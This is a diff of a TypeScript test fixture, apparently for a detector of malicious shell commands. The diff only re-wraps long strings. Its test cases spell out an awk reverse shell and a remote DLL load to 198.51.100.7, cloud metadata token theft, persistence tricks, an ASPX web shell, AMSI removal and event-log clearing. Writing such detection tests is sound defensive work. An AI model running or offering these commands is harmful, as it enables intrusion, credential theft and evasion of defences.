@@ -38,7 +38,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'an awk program',
       'strong',
-      `awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/4444";while(1){if((s|&getline c)<=0)break;while((c|&getline)>0)print|&s;close(c)}}'`,
+      `awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/4444";while(1){if((s|&getline ` +
+        `c)<=0)break;while((c|&getline)>0)print|&s;close(c)}}'`,
     ],
     [
       'a lua socket without a shell',
@@ -57,7 +58,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'the Arc endpoint',
       'strong',
-      'curl -s -D - -H Metadata:true "http://127.0.0.1:40342/metadata/identity/oauth2/token?api-version=2020-06-01&resource=https://management.azure.com"',
+      'curl -s -D - -H Metadata:true "http://127.0.0.1:40342/metadata/identity/oauth2/' +
+        'token?api-version=2020-06-01&resource=https://management.azure.com"',
     ],
     ['the pod identity agent', 'strong', 'curl http://169.254.170.23/v1/credentials'],
     ['the full credentials URI', 'strong', 'curl -H "Authorization: $T" "$AWS_CONTAINER_CREDENTIALS_FULL_URI"'],
@@ -69,7 +71,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'a Google token',
       'strong',
-      'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
+      'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/' +
+        'service-accounts/default/token',
     ],
     ['a secret key from the configuration', 'strong', 'aws configure get default.aws_secret_access_key'],
     ['a region from the configuration', 'nothing', 'aws configure get region'],
@@ -114,7 +117,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'an assembly from memory',
       'strong',
-      '[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("http://198.51.100.7/a.dll")).EntryPoint.Invoke($null,$null)',
+      '[System.Reflection.Assembly]::Load((New-Object ' +
+        'Net.WebClient).DownloadData("http://198.51.100.7/a.dll")).EntryPoint.Invoke($null,$null)',
     ],
     [
       'InvokeScript',
@@ -282,7 +286,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'a debugger for another program',
       'strong',
-      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe /f',
+      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" ' +
+        '/v Debugger /d cmd.exe /f',
     ],
     [
       'a start menu entry',
@@ -292,7 +297,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'a registered task with hidden PowerShell',
       'strong',
-      '$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -c iex $x"; Register-ScheduledTask -TaskName x -Action $a',
+      '$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -c iex $x"; ' +
+        'Register-ScheduledTask -TaskName x -Action $a',
     ],
     ['a service in a temporary directory', 'strong', 'New-Service -Name x -BinaryPathName "C:\\Windows\\Temp\\x.exe"'],
     ['a capability', 'strong', 'setcap cap_setuid+ep /usr/bin/python3'],
@@ -304,7 +310,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'the same on Windows',
       'strong',
-      'Set-Content -Path C:\\inetpub\\wwwroot\\x.aspx -Value \'<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>\'',
+      "Set-Content -Path C:\\inetpub\\wwwroot\\x.aspx -Value '<%@ Page " +
+        'Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>\'',
     ],
     [
       'a program of the login screen',
@@ -342,7 +349,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'the scanner of scripts',
       'strong',
-      'Remove-Item -Path "HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}" -Recurse',
+      'Remove-Item -Path "HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}" ' +
+        '-Recurse',
     ],
     ['drivers that watch files listed', 'nothing', 'fltmc instances; sysmon -c'],
     ['history to nowhere', 'strong', 'export HISTFILE=/dev/null'],
@@ -354,7 +362,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'every event log',
       'strong',
-      'Get-WinEvent -ListLog * | ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }',
+      'Get-WinEvent -ListLog * | ForEach-Object { ' +
+        '[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }',
     ],
     ['PowerShell history', 'strong', 'Remove-Item (Get-PSReadlineOption).HistorySavePath'],
     ['auditing off', 'strong', 'auditpol /set /category:* /success:disable'],
@@ -422,7 +431,8 @@ const cases: Readonly<Partial<Record<CategoryId, readonly Case[]>>> = {
     [
       'names that only end alike',
       'nothing',
-      'curl -s https://internetsupport.example.com/x -o /dev/null; serveradmin list; wget -q https://transaction1.example.com/ -O -',
+      'curl -s https://internetsupport.example.com/x -o /dev/null; serveradmin list; wget -q ' +
+        'https://transaction1.example.com/ -O -',
     ],
     ['a local forward', 'nothing', 'ssh -fN -L 5432:db:5432 u@10.0.0.5'],
     ['a listing on another machine', 'nothing', 'ssh host ls -lR /srv'],
